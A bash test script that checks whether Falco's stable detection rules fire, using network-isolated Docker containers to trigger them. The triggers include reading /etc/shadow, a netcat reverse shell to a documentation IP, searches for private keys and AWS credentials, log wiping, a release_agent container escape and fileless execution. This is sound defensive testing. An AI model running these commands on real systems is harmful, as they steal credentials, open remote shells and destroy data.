# shellcheck shell=bash
# Family "falco": Falco's rules, unmodified, on their triggers

# Falco's stable rules, unmodified, on their triggers: which fire.
t_falco_rules() {
	local fout=$WORK/falco.json ferr=$WORK/falco.err pid fired expected missing r
	agent_start falco --rules "$ROOT/../shared/falco/falco_rules.yaml" --alerts-only ||
		{ fail "falco: agent starts"; return; }
	pid=$AGENT_PID
	docker run --rm --network none "$IMG" cat /etc/shadow >/dev/null 2>&1
	docker run --rm --network none "$IMG" cat /etc/../etc/../etc/shadow >/dev/null 2>&1
	docker run --rm --network none -t "$IMG" sh -c true >/dev/null 2>&1
	docker run --rm --network none "$IMG" nc -e /bin/sh 192.0.2.1 4444 >/dev/null 2>&1
	docker run --rm --network none "$IMG" find /etc -name id_rsa >/dev/null 2>&1
	docker run --rm --network none "$IMG" find / -path /root/.aws/credentials >/dev/null 2>&1
	docker run --rm --network none "$IMG" sh -c 'mkdir -p /var/log && echo > /var/log/syslog' >/dev/null 2>&1
	# as the entrypoint: busybox sh runs some applets without an exec
	docker run --rm --network none "$IMG" shred -n 1 /etc/group >/dev/null 2>&1
	docker run --rm --network none "$IMG" ln -s /etc/shadow /tmp/l >/dev/null 2>&1
	docker run --rm --network none "$IMG" ln /etc/shadow /tmp/h >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin packet-socket >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin dupinet >/dev/null 2>&1
	docker run --rm --network none --cap-add SYS_ADMIN "$IMG" sh -c 'echo x > /tmp/release_agent' >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin priv >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin traceme >/dev/null 2>&1
	docker run --rm --network none --tmpfs /dev/shm:exec "$IMG" sh -c 'cp /bin/busybox /dev/shm/x && /dev/shm/x true' >/dev/null 2>&1
	docker run --rm --network none "$IMG" sh -c 'cp /bin/busybox /tmp/x && /tmp/x true' >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin memfd-exec /bin/busybox >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin spawn-as httpd /bin/sh -c true >/dev/null 2>&1
	# exec'd by path: busybox sh would run its login applet as "exe"
	docker run --rm --network none --user nobody "$IMG" vigil-testbin spawn-as getty /bin/login </dev/null >/dev/null 2>&1
	# privileged as Docker makes it (see t_container_config_and_caps)
	docker run --rm --network none --cap-add SYS_ADMIN --cap-add SYS_MODULE --security-opt systempaths=unconfined \
		"$IMG" sh -c 'ln -s /bin/busybox /tmp/debugfs && /tmp/debugfs true' >/dev/null 2>&1
	sleep 2
	kill -TERM "$pid"
	wait "$pid"
	fired=$(jq -r '.rules[]?' "$fout" 2>/dev/null | sort -u)
	echo "# Falco stable rules that fired:"
	echo "$fired" | sed 's/^/#   /'
	expected="Read sensitive file untrusted
Directory traversal monitored file read
Terminal shell in container
Netcat Remote Code Execution in Container
Search Private Keys or Passwords
Find AWS Credentials
Clear Log Activities
Remove Bulk Data from Disk
Create Symlink Over Sensitive Files
Create Hardlink Over Sensitive Files
Packet socket created in container
Redirect STDOUT/STDIN to Network Connection in Container
Detect release_agent File Container Escapes
PTRACE attached to process
PTRACE anti-debug attempt
Execution from /dev/shm
Drop and execute new binary in container
Fileless execution via memfd_create
Run shell untrusted
System user interactive
Debugfs Launched in Privileged Container"
	missing=""
	while read -r r; do
		echo "$fired" | grep -qxF "$r" || missing="$missing [$r]"
	done <<<"$expected"
	if [ -z "$missing" ] && grep -q "23 loaded, 2 skipped" "$ferr"; then
		ok "falco: the stable rules load (23 of 25, 2 skipped with a warning) and 21 fire on their triggers"
	else
		fail "falco: stable rules load and fire" "did not fire:$missing" "$(grep rules: "$ferr")"
	fi
}

family_falco() {
	t_falco_rules
}
